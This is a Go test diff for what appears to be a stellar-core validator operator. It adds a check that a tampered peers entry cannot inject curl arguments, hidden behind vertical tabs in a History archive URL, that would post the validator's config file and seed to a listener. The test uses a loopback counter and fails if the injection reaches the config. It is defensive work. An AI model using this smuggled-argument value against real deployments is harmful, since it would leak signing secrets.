@@ -17,6 +17,7 @@ import (
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -105,8 +106,24 @@ func startPublishingOrganisation(t *testing.T, bin, path string) ([]*node, map[s
 // the others' archives to catch up from, through its rendered HISTORY commands.
 func lateValidatorCatchesUp(t *testing.T, bin string, org []*node, servers map[string]*archiveServer, doc peers.Document, path string) {
 	late := lateValidator(t, bin)
-	renderForLoopback(t, late, doc, true)
+	// stellar-peers tampered with by someone who may update ConfigMaps: an entry whose archive URL hides
+	// curl arguments behind vertical tabs that would post the whole file, seed included, to a listener.
+	listener, received := loopbackListener(t)
+	tampered := peers.Document{Peers: append(slices.Clone(doc.Peers), peers.Peer{
+		Name: "intruder", NetworkID: late.spec.NetworkID(), DNSName: "127.0.0.1", PodIP: "127.0.0.1", Port: 33705,
+		PublicKey: late.spec.Spec.ValidatorConfig.PublicKey[:1] + strings.Repeat("B", 55), HomeDomain: "example.org", Quality: "HIGH",
+		History: "http://" + listener + "/x\v--data-binary\v@" + filepath.Join(late.dir, "stellar-core.cfg") + "\v-H\vx:",
+	})}
+	renderForLoopback(t, late, tampered, true)
 	rendered, _ := os.ReadFile(filepath.Join(late.dir, "stellar-core.cfg"))
+	if strings.Contains(string(rendered), "intruder") || strings.Contains(string(rendered), "data-binary") {
+		t.Fatalf("the tampered stellar-peers entry reached the file:\n%s", rendered)
+	}
+	t.Cleanup(func() {
+		if n := received.Load(); n != 0 {
+			t.Errorf("the loopback listener named by the tampered entry received %d connections", n)
+		}
+	})
 	if strings.Contains(string(rendered), "[HISTORY") || strings.Count(string(rendered), "HISTORY = \"curl -sf http://127.0.0.1:") != 3 {
 		t.Fatalf("the late validator should read the three archives through its [[VALIDATORS]] HISTORY only:\n%s", rendered)
 	}
@@ -148,8 +165,34 @@ func lateValidatorCatchesUp(t *testing.T, bin string, org []*node, servers map[s
 		lateLog, _ := os.ReadFile(filepath.Join(late.dir, "run.log"))
 		t.Fatalf("the late validator fetched no checkpoint file from its peers' archives: %v\nits log:\n%s", fetched, tail(string(lateLog), 60))
 	}
-	t.Logf("the late validator caught up from its peers' archives: %d requests, %d checkpoint files, e.g. %v",
-		len(fetched), len(checkpoints), checkpoints[:min(len(checkpoints), 5)])
+	t.Logf("the late validator caught up from its peers' archives: %d requests, %d checkpoint files, e.g. %v; "+
+		"the listener of the tampered entry received %d connections",
+		len(fetched), len(checkpoints), checkpoints[:min(len(checkpoints), 5)], received.Load())
+	if received.Load() != 0 {
+		t.Fatal("a tampered stellar-peers entry made stellar-core send something to its listener")
+	}
+}
+
+// loopbackListener accepts connections on 127.0.0.1 and counts them.
+func loopbackListener(t *testing.T) (string, *atomic.Int64) {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = l.Close() })
+	var n atomic.Int64
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			n.Add(1)
+			_ = c.Close()
+		}
+	}()
+	return l.Addr().String(), &n
 }
 
 // restartSkipsNewHist restarts a Full validator with its start script: new-hist is skipped, even
